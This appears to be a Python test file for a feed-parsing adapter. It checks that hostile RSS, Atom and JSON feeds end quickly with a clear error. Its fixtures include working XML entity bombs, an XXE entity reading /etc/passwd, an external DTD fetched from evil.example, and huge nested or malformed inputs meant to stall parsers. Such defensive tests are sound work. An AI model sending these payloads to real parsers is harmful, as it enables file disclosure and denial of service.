"""Feeds written by somebody who means harm: a clear error or a correct row, and soon."""

from __future__ import annotations

import time
from contextlib import suppress

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from social_adapters.as2 import as2
from social_adapters.errors import AdapterError, Unexpected
from social_adapters.feeds import Feeds
from social_adapters.recording import Recording, outcome
from social_adapters.testing import problems
from social_adapters.vocabulary import Activity, Object

SECONDS = 5.0  # generous: each takes well under one here


def converted(body: object) -> tuple[Activity, ...]:
    return outcome(Feeds, Recording(body), "feed").activities


def feed(inside: str, subset: str = "") -> bytes:
    return f"<?xml version='1.0'?><!DOCTYPE rss [{subset}]><rss><channel>{inside}</channel></rss>".encode()


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "subset",
    [
        f'<!ENTITY l0 "lol">{LAUGHS}',
        '<!ENTITY a "&#38;b;"><!ENTITY b "x">',
        '<!ENTITY a "&#x26;b;"><!ENTITY b "x">',
        f'<!ENTITY a "{"x" * 100_000}">',
        '<!ENTITY secret SYSTEM "file:///etc/passwd">',
        '<!ENTITY secret PUBLIC "-//x" "http://127.0.0.1/">',
        '<!ENTITY % more SYSTEM "http://evil.example/x.dtd">%more;',
        "".join(f'<!ENTITY e{n} "x">' for n in range(1000)),
    ],
    ids=["laughs", "decimal", "hexadecimal", "long", "system", "public", "parameter", "many"],
)
def test_an_entity_bomb_is_refused(subset: str) -> None:
    with pytest.raises(Unexpected, match="entit"):
        converted(feed("<item><title>&l9;&a;&secret;</title></item>", subset))


def test_an_entity_used_without_measure_is_refused() -> None:
    with pytest.raises(Unexpected, match="entity bomb"):
        converted(feed(f"<item><title>{'&a;' * 100_000}</title></item>", f'<!ENTITY a "{"x" * 199}">'))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"])
def test_a_bomb_in_another_encoding_is_a_bomb(encoding: str) -> None:
    with pytest.raises(Unexpected, match="entity bomb"):
        converted(feed("<item><title>&l9;</title></item>", f'<!ENTITY l0 "lol">{LAUGHS}').decode().encode(encoding))


@pytest.mark.parametrize("inner", ["<a>" * 300, "<a x='1'>" * 300, "<a></b>" * 300, "<a><!-- </a> -->" * 300])
def test_elements_without_end_inside_each_other_are_refused(inner: str) -> None:
    with pytest.raises(Unexpected, match="deep"):
        converted(feed(f"<item><title>x</title>{inner}</item>"))


def test_elements_that_are_never_closed_end_with_their_parent() -> None:
    told = converted(feed("<item><title>x<br><p></title><![CDATA[<a><a>]]></item>" * 300))
    assert len(told) > 0


def test_a_doctype_and_a_plain_entity_are_harmless() -> None:
    subset = '<!ENTITY nbsp "&#160;"><!ENTITY company "Kiln &amp; Co">'
    (activity,) = converted(feed("<item><title>&company;&nbsp;writes</title></item>", subset))
    assert isinstance(activity.object, Object)
    assert activity.object.name == "Kiln & Co writes"


def test_a_lesson_about_entities_is_no_bomb() -> None:
    lesson = '<![CDATA[<pre>&lt;!ENTITY a "&amp;b;"&gt;</pre>]]>'
    (activity,) = converted(feed(f"<item><description>{lesson}</description></item>"))
    assert isinstance(activity.object, Object)
    assert activity.object.content == '<!ENTITY a "&b;">'


ITEM = "<rss version='2.0'><channel><item><title>x</title>"


@pytest.mark.parametrize(
    "body",
    [
        ITEM + "<author>" + "a" * 200_000 + "</author></item></channel></rss>",
        ITEM + "<author>" + "a@" * 100_000 + "</author></item></channel></rss>",
        ITEM + "".join(f"<category>c{n}</category>" for n in range(30_000)) + "</item></channel></rss>",
        ITEM + "<deep>" * 50_000,
        ITEM + "<description>" + "&lt;div&gt;" * 50_000 + "</description></item></channel></rss>",
        ITEM + "<description>" + "&lt;" * 100_000 + "</description></item></channel></rss>",
        ITEM + "<pubDate>" + "1 " * 100_000 + "</pubDate></item></channel></rss>",
        ITEM + "&" * 100_000,
        ITEM + "<![CDATA[" * 20_000,
        ITEM + "<!--" * 50_000,
        "\n" * 300_000 + ITEM,
        "<!--" * 100_000,
        "<?" * 100_000,
        "<!DOCTYPE rss [" + "<!ENTITY " * 50_000,
        "<!DOCTYPE rss [" + "]" * 200_000,
    ],
    ids=[
        "author", "address", "categories", "deep", "deep html", "angles", "date", "ampersands", "cdata", "comments",
        "newlines", "open comments", "instructions", "declarations", "brackets",
    ],
)  # fmt: skip
def test_no_document_takes_long(body: str) -> None:
    began = time.perf_counter()
    with suppress(AdapterError):
        converted(body.encode())
    assert time.perf_counter() - began < SECONDS


@given(st.binary(max_size=2000))
def test_any_bytes_end_clearly(body: bytes) -> None:
    _end_clearly(body)


PIECES = st.sampled_from([
    "<rss>", "<channel>", "<item>", "</item>", "<feed xmlns='http://www.w3.org/2005/Atom'>", "<entry>", "</entry>",
    "<title>", "</title>", "<title type='html'>", "<link>", "</link>", "<link rel='next' href='", "'/>", "<guid>",
    "</guid>", "<author>", "<name>", "</name>", "</author>", "<pubDate>", "</pubDate>", "<content type='xhtml'>",
    "<div>", "</div>", "<content type='base64'>", "</content>", "<thr:in-reply-to ref='", "<media:group>", "&amp;",
    "&#0;", "&#xD800;", "&lt;b&gt;", "<![CDATA[", "]]>", "<!--", "-->", "<?xml encoding='utf-7'?>", "<!DOCTYPE x [",
    "]>", "http://[bad", "javascript:x", "'", '"',
])  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES | st.text(max_size=20), max_size=40))
def test_any_heap_of_tags_ends_clearly(pieces: list[str]) -> None:
    _end_clearly(("<rss version='2.0'><channel>" + "".join(pieces)).encode("utf-8", "replace"))


JSON = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**53), 2**53) | st.floats(allow_nan=False) | st.text(max_size=30),
    lambda inner: st.lists(inner, max_size=3)
    | st.dictionaries(
        st.sampled_from([
            "id", "url", "title", "content_html", "content_text", "summary", "author", "authors", "name", "avatar",
            "image", "date_published", "date_modified", "attachments", "mime_type", "language", "next_url", "feed_url",
        ]),
        inner,
        max_size=6,
    ),
    max_leaves=20,
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(JSON, JSON, JSON)
def test_any_json_feed_ends_clearly(author: object, title: object, items: object) -> None:
    version = "https://jsonfeed.org/version/1.1"
    given_items = items if isinstance(items, list) else [items]
    _end_clearly({"version": version, "author": author, "title": title, "items": given_items})


def _end_clearly(body: object) -> None:
    try:
        found = converted(body)
    except AdapterError as error:
        clear = str(error)
    else:
        clear = "fine"
        for activity in found:
            assert not problems(activity)
            orjson.dumps(as2(activity))
    assert "\n" not in clear
